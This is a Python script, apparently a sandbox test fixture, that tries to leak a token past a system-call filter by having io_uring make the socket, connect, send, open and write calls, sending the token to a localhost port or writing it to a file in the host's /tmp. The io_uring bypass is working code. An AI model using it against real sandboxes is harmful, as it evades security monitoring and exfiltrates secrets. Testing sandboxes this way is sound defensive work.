"""Attempts to leak a token through io_uring: the kernel makes the calls, a filter of system calls sees none of them.

Run as hostile code: `python -I ring.py NAME TOKEN JSON`. Numbers and structures: linux/io_uring.h.
"""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import socket
import struct
import sys
from typing import Any

SETUP, ENTER = 425, 426  # the same number on every architecture
OP_CONNECT, OP_OPENAT, OP_WRITE, OP_SEND, OP_SOCKET = 16, 18, 23, 26, 45
OFF_SQES = 0x10000000
ENTER_GETEVENTS = 1
AT_FDCWD = -100

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def ring_connect(token: bytes, at: dict[str, Any]) -> None:
    """Make a socket, connect it and send, all by a ring."""
    ring = Ring()
    address = struct.pack("=H", socket.AF_INET) + struct.pack(
        ">H4s8x", at["ring_connect"], socket.inet_aton("127.0.0.1")
    )
    fd = ring.call(OP_SOCKET, socket.AF_INET, offset=socket.SOCK_STREAM)
    ring.call(OP_CONNECT, fd, address, offset=len(address))
    ring.call(OP_SEND, fd, token, length=len(token))


def ring_file(token: bytes, at: dict[str, Any]) -> None:
    """Open a new file in /tmp of the host and write to it, all by a ring."""
    ring = Ring()
    path = f"{at['tmp']}/{at['prefix']}ring".encode() + b"\0"
    fd = ring.call(OP_OPENAT, AT_FDCWD, path, length=0o600, flags=os.O_CREAT | os.O_WRONLY)
    ring.call(OP_WRITE, fd, token, length=len(token))


class Ring:
    """A submission ring of one entry; one call at a time."""

    def __init__(self) -> None:
        params = ctypes.create_string_buffer(120)
        self.fd = libc.syscall(SETUP, 1, params)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), f"io_uring_setup: {os.strerror(ctypes.get_errno())}")
        words = struct.unpack("30I", params.raw)
        self.sq, self.cq = words[10:20], words[20:30]
        size = max(self.sq[6] + words[0] * 4, self.cq[5] + words[1] * 16)
        self.rings = mmap.mmap(self.fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        self.entries = mmap.mmap(self.fd, 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=OFF_SQES)

    def call(self, op: int, fd: int, data: bytes = b"", *, offset: int = 0, length: int = 0, flags: int = 0) -> int:
        """Submit one operation and wait for its result; an error raises OSError."""
        held = ctypes.create_string_buffer(data) if data else None
        address = ctypes.addressof(held) if held is not None else 0
        self.entries[:64] = struct.pack("=BBHiQQIIQ24x", op, 0, 0, fd, offset, address, length, flags, 0)
        tail = self._word(self.sq[1])
        self.rings[self.sq[6] : self.sq[6] + 4] = struct.pack("=I", 0)
        self.rings[self.sq[1] : self.sq[1] + 4] = struct.pack("=I", tail + 1)
        if libc.syscall(ENTER, self.fd, 1, 1, ENTER_GETEVENTS, None, 0) < 0:
            raise OSError(ctypes.get_errno(), f"io_uring_enter: {os.strerror(ctypes.get_errno())}")
        head = self._word(self.cq[0])
        slot = self.cq[5] + (head & self._word(self.cq[2])) * 16
        _, result = struct.unpack("=Qi", self.rings[slot : slot + 12])
        self.rings[self.cq[0] : self.cq[0] + 4] = struct.pack("=I", head + 1)
        if result < 0:
            raise OSError(-result, f"operation {op}: {os.strerror(-result)}")
        return int(result)

    def _word(self, offset: int) -> int:
        return int(struct.unpack("=I", self.rings[offset : offset + 4])[0])


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]](sys.argv[2].encode(), json.loads(sys.argv[3]))
    except OSError as e:
        sys.exit(f"refused: {e.strerror}")  # a traceback could name the token
